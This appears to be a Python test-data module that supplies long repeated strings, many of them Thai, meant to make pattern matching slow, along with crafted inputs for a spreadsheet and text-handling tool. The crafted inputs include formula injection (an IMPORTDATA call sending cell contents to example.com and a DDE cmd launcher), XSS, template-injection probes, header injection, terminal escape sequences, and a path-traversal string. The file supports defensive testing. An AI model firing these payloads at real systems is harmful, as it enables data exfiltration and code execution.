"""Texts that people do not type, as long as a cell takes them."""

LONGEST_CELL = 50_000
"""Letters that Google takes in one cell."""


def filled(piece: str, length: int = LONGEST_CELL) -> str:
    """Repeat a piece until a cell is full."""
    return (piece * (length // len(piece) + 1))[:length]


PIECES = {
    "spaces": "x" + " " * LONGEST_CELL,
    "digits": "1",
    "Thai digits": "๑",
    "groups of digits": "000,",
    "years": "2569 - ",
    "brackets": "(",
    "brackets around a letter": "(ก",
    "quotation marks": "“",
    "tone marks": "้ั",
    "tone marks apart": "ก้ <",
    "nikhahit": "\u0e4d",
    "zero-width spaces": "\u200b",
    "one Thai letter": "ก",
    "one Latin letter": "a",
    "addresses": "a@",
    "links": "http://",
    "dots": ".",
    "lines": "๑) เพื่อ\n",
    "empty lines": "x\n",
    "baht": "บาท",
    "prefixes of an amount": "จำนวน",
    "quarters": "ไตรมาสที่ ",
    "months": "ตุลาคม ",
    "percents": "ร้อยละ ",
    "offices": "องค์การบริหารส่วนตำบล",
    "laws": "พระราชบัญญัติ ",
    "twice": "และ",
    "tags": "{{ {% <w:p ",
}
"""What makes patterns go back and forth, by what it is."""

ENDLESS = {name: filled(piece) for name, piece in PIECES.items()}

CRAFTED = (
    '=IMPORTDATA("https://example.com/?"&A1) '
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "+1+1 {{ 7*7 }} {% for a in b %} {# c #} {{ ''.__class__.__mro__ }} {_{ x }_}",
    "-2+3+cmd|' /C calc'!A0 <w:p><w:r><w:t>x</w:t></w:r></w:p> &amp; &#65; ]]> <!-- -->",
    "@SUM(1+1)*cmd [red]x[/red] [link=https://example.com]y[/link] "
    "javascript:alert(1) https://example.com/?a=1&b=2",
    "\t=1+1 ก\r\nBcc: all@example.com\r\n\r\n"
    "\x1b[31mแดง\x1b]0;ชื่อ\x07 \x9b31m \x00\x08\x7f \u202eกลับ\u202c \u2066แยก\u2069 \u200eซ้าย",
    '../../etc/passwd C:\\con\\nul <>:"/\\|?* . {0.__class__} %s %(x)s $x ${x}\n'
    "2026-01-01 00:00:00,000 INFO cycle=9 outcome=done",
)
"""What means something elsewhere: to a sheet, a page, a document, a terminal, a log."""
